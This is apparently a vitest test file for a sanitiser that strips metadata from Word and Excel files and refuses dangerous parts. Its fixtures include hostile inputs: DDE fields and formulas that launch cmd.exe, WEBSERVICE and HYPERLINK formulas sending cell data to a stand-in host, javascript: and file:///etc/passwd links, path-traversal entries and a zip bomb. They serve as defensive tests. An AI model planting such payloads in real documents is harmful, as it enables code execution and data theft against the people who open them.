/** Word and Excel files as they are handed out: what would run, fetch or hide is refused by its name, who made them is gone. */
import { unzipSync, zipSync } from 'fflate'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { cleanOffice } from '../../src/media/child/cleanOffice.ts'
import { DOCX, fileKind, HEAD, XLSX } from '../../src/policy/gate/fileKind.ts'
import { docxOf, relation, xlsxOf } from '../support/office.ts'

const text = (bytes: Buffer, name: string): string => Buffer.from(unzipSync(bytes)[name] ?? new Uint8Array()).toString()
const taken = async (bytes: Buffer) => {
  const answer = await cleanOffice(bytes)
  if (!('bytes' in answer)) throw new Error(JSON.stringify(answer))
  return answer
}
const field = (code: string): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`

describe('a Word file', () => {
  it('keeps its words and says no more who made it, on which machine and from which template', async () => {
    const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#284' } })
      .withExif({ IFD0: { Artist: 'Nguyen Van A' } })
      .jpeg()
      .toBuffer()
    const before = docxOf({
      settings: '<w:attachedTemplate r:id="rId9"/><w:rsids><w:rsid w:val="00A1"/></w:rsids><w:zoom w:percent="100"/>',
      rels:
        relation('rId3', 'hyperlink', 'https://moet.gov.vn/', true) +
        relation('rId4', 'image', 'media/image1.jpeg') +
        relation('rId5', 'customXml', '../customXml/item1.xml'),
      more: {
        'word/_rels/settings.xml.rels': `<Relationships>${relation('rId9', 'attachedTemplate', 'file:///C:/Users/nguyenvana/mau.dotm', true)}</Relationships>`,
        'word/media/image1.jpeg': photo,
        'customXml/item1.xml': '<x>Nguyen Van A</x>',
        'docProps/app.xml': '<Properties><Company>Nguyen Van A</Company></Properties>',
      },
    })
    const { bytes, lienKet } = await taken(before)
    expect(lienKet).toEqual(['https://moet.gov.vn/'])
    expect(text(bytes, 'word/document.xml')).toContain('Biểu mẫu')
    expect(text(bytes, 'word/settings.xml')).toContain('<w:settings xmlns:w="w"><w:zoom w:percent="100"></w:zoom></w:settings>')
    expect(Object.keys(unzipSync(bytes)).toSorted()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels', 'word/document.xml', 'word/media/image1.jpeg', 'word/settings.xml']) // prettier-ignore
    const all = Object.values(unzipSync(bytes)).map((part) => Buffer.from(part).toString('latin1')).join() // prettier-ignore
    for (const trace of ['Nguyen', 'nguyenvana', 'mau.dotm', 'docProps', 'customXml']) expect([trace, all.includes(trace)]).toEqual([trace, false])
    expect(fileKind(bytes.subarray(0, HEAD))).toEqual({ loai: 'tep', kieu: DOCX })
    // Cleaned again it is itself: its fingerprint holds.
    expect((await taken(bytes)).bytes.equals(bytes)).toBe(true)
  })

  it.each([
    ['macro', docxOf({ more: { 'word/vbaProject.bin': 'x' } })],
    ['macro', docxOf({ types: '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' })],
    ['activeX', docxOf({ more: { 'word/activeX/activeX1.xml': '<x/>' } })],
    ['embedded', docxOf({ more: { 'word/embeddings/oleObject1.bin': 'x' } })],
    ['embedded', docxOf({ body: '<w:altChunk r:id="rId3"/>' })],
    ['embedded', docxOf({ body: '<w:p><o:OLEObject xmlns:o="o"/><o:oleObject/></w:p>' })],
    ['external', docxOf({ rels: relation('rId3', 'image', 'https://x.example/a.png', true) })],
    ['external', docxOf({ rels: relation('rId3', 'frame', 'https://x.example/', true) })],
    ['tracked', docxOf({ body: '<w:p><w:del w:author="A"><w:r><w:delText>bí mật</w:delText></w:r></w:del></w:p>' })],
    ['hidden', docxOf({ body: '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>bí mật</w:t></w:r></w:p>' })],
    ['comments', docxOf({ more: { 'word/comments.xml': '<x/>' } })],
    ['field', docxOf({ body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') })],
    [
      'field',
      docxOf({ body: '<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "https://x.example/a.png"</w:instrText></w:r></w:p>' }),
    ],
    ['field', docxOf({ body: '<w:fldSimple w:instr=" includetext &quot;\\\\\\\\may\\\\tep&quot;"/>' })],
    ['picture', docxOf({ more: { 'word/media/image1.emf': 'x' } })],
    ['picture', docxOf({ more: { 'word/media/image1.png': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>' } })],
    ['doctype', docxOf({ more: { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' } })],
    ['unknown', docxOf({ more: { 'word/../../etc/passwd': 'x' } })],
    ['unknown', docxOf({ more: { 'word/chay.exe': 'MZ' } })],
    ['unknown', docxOf({ more: { 'word/styles.xml': new Uint8Array([0xff, 0xfe, 0x3c, 0x00]) } })],
    ['unknown', docxOf({ more: { 'xl/workbook.xml': '<x/>' } })],
    ['unknown', docxOf({ more: { 'word/styles.xml': Buffer.from('<w:p><w:vanish/></w:p>', 'utf16le') } })],
    ['unknown', docxOf({ body: field('').replace('<w:instrText>', '<w:instrText><x:instrText/>DDEAUTO') })],
    ['hidden', docxOf({ more: { 'word/styles9.xml': '<w:styles><w:vanish/></w:styles>' } })],
    ['hidden', docxOf({ body: '<w:p><w:vanish x:val="0"/></w:p>' })],
    ['tracked', docxOf({ body: '<w:tbl><w:cellIns w:author="A"/></w:tbl>' })],
    ['field', docxOf({ body: field('DD').replace('</w:r></w:p>', '</w:r></w:p><x:p/><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r>') })],
    ['field', docxOf({ body: '<w:fldSimple x:instr="PAGE" w:instr="INCLUDEPICTURE x"/>' })],
    ['field', docxOf({ body: field('PRINT "x"') })],
    ['external', docxOf({ body: '<v:imagedata src="http://x.example/t.png"/>' })],
    ['embedded', docxOf({ body: '<o:OLEObject Type="Embed"/>' })],
  ])('with %s is refused by that: %#', async (fault, bytes) => expect(await cleanOffice(bytes)).toMatchObject({ fault }))

  it('that leads to a file of its reader, or to a script, is refused by that address', async () => {
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd'])
      expect(await cleanOffice(docxOf({ rels: relation('rId3', 'hyperlink', url, true) }))).toEqual({ badLink: url })
  })

  it('shows whoever opens it what was judged: what another reader would have seen is not written', async () => {
    for (const hidden of ['<w:vanish/>bí mật', '<w:instrText>DDEAUTO x</w:instrText>']) {
      const { bytes } = await taken(docxOf({ body: `<w:p/><?x > <!-- ?>${hidden}<?x --> ?><w:p><w:r><w:t>thấy</w:t></w:r></w:p>` }))
      expect([text(bytes, 'word/document.xml').includes('bí mật'), /DDEAUTO|vanish|<!--|<\?x /.test(text(bytes, 'word/document.xml')), text(bytes, 'word/document.xml').includes('thấy')]).toEqual([false, false, true]) // prettier-ignore
    }
  })

  it('keeps neither parts nothing leads to nor fonts, and lets go of relations to what is not there', async () => {
    const bytes = docxOf({ rels: relation('rId7', 'font', 'fonts/a.odttf') + relation('rId8', 'printerSettings', 'printerSettings/p.bin'), body: '<w:p><w:x r:id="rId8"/></w:p>', more: { 'word/fonts/a.odttf': 'MZ chạy', 'docMetadata/LabelInfo.xml': '<x/>', 'word/core.xml': '<dc:creator>Nguyen</dc:creator>' } }) // prettier-ignore
    const doc = unzipSync(bytes)
    doc['word/_rels/document.xml.rels'] = Buffer.from(Buffer.from(doc['word/_rels/document.xml.rels']!).toString().replace(/<Relationship Id="rIdM\d+"[^>]*core\.xml"\/>/, '')) // prettier-ignore
    const clean = await taken(Buffer.from(zipSync(doc)))
    expect(Object.keys(unzipSync(clean.bytes)).toSorted()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/document.xml'])
    expect(text(clean.bytes, 'word/document.xml')).not.toContain('rId8')
  })

  it('of any length is read in its time: nothing in it grows with its square', async () => {
    const from = performance.now()
    await cleanOffice(docxOf({ settings: `<w:t><![CDATA[${'<absPath '.repeat(200_000)}]]></w:t>` }))
    await cleanOffice(docxOf({ body: '<w:instrText>abcdefgh</w:instrText>'.repeat(80_000) }))
    await cleanOffice(docxOf({ settings: '<w:rsids>'.repeat(40_000) }))
    // What grows with its square takes minutes: the child would be ended long before.
    expect(performance.now() - from).toBeLessThan(60_000)
  }, 120_000)

  it('cut at each tenth, or no file at all, is unreadable; a bomb is too large and stops as it grows', async () => {
    const whole = docxOf()
    for (let tenth = 1; tenth < 9; tenth += 1) expect(await cleanOffice(whole.subarray(0, (whole.length * tenth) / 10))).not.toHaveProperty('bytes')
    expect(await cleanOffice(Buffer.from('PK\x03\x04 word/document.xml'))).not.toHaveProperty('bytes')
    const bomb = Buffer.from(zipSync({ '[Content_Types].xml': Buffer.from('<x/>'), 'word/document.xml': Buffer.alloc(100_000_000) }))
    expect([bomb.length < 200_000, await cleanOffice(bomb)]).toEqual([true, { refused: 'OFFICE_TOO_LARGE' }])
  }, 60_000)
})

describe('an Excel file', () => {
  it('keeps its cells, without the folder it lay in', async () => {
    const { bytes } = await taken(xlsxOf({ cells: '<c r="A1"><f>SUM(B1:B3)</f><v>6</v></c><c r="A2"><f>HYPERLINK("https://moet.gov.vn/","Bộ")</f></c>' }))
    expect([text(bytes, 'xl/workbook.xml').includes('nguyenvana'), text(bytes, 'xl/worksheets/sheet1.xml').includes('SUM(B1:B3)')]).toEqual([false, true])
    expect(fileKind(bytes.subarray(0, HEAD))).toEqual({ loai: 'tep', kieu: XLSX })
  })
  it('may hide columns nothing stands in', async () =>
    expect(await taken(xlsxOf({ before: '<cols><col min="5" max="16384" hidden="1"/></cols>' }))).toHaveProperty('bytes'))
  it.each([
    ['hidden', xlsxOf({ sheets: '<sheet name="A" state="veryHidden"/>' })],
    ['hidden', xlsxOf({ rows: '<row r="2" hidden="1"><c r="A2"><v>9</v></c></row>' })],
    ['hidden', xlsxOf({ before: '<cols><col min="2" max="3" hidden="1"/></cols>', cells: '<c r="B1"><v>9</v></c>' })],
    ['formula', xlsxOf({ workbook: '<definedNames><definedName name="a">_xlfn.WEBSERVICE("http://x/")</definedName></definedNames>' })],
    ['formula', xlsxOf({ cells: '<c><f>\'it"s\'!A1&amp;WEBSERVICE("http://x/"&amp;A2)</f></c>' })],
    ['unknown', xlsxOf({ cells: '<c><f><x:f/>WEBSERVICE("http://x/")</f></c>' })],
    ['formula', xlsxOf({ cells: '<c><f>WEBSERVICE("https://x.example/?"&amp;A1)</f></c>' })],
    ['formula', xlsxOf({ cells: "<c><f>cmd|'/c calc'!A0</f></c>" })],
    ['formula', xlsxOf({ cells: '<c><f>HYPERLINK("https://x.example/?"&amp;A1,"x")</f></c>' })],
    ['external', xlsxOf({ more: { 'xl/externalLinks/externalLink1.xml': '<x/>' } })],
    ['pivot', xlsxOf({ more: { 'xl/pivotCache/pivotCacheRecords1.xml': '<x/>' } })],
    ['macro', xlsxOf({ more: { 'xl/macrosheets/sheet1.xml': '<x/>' } })],
  ])('with %s is refused by that: %#', async (fault, bytes) => expect(await cleanOffice(bytes)).toMatchObject({ fault }))
})
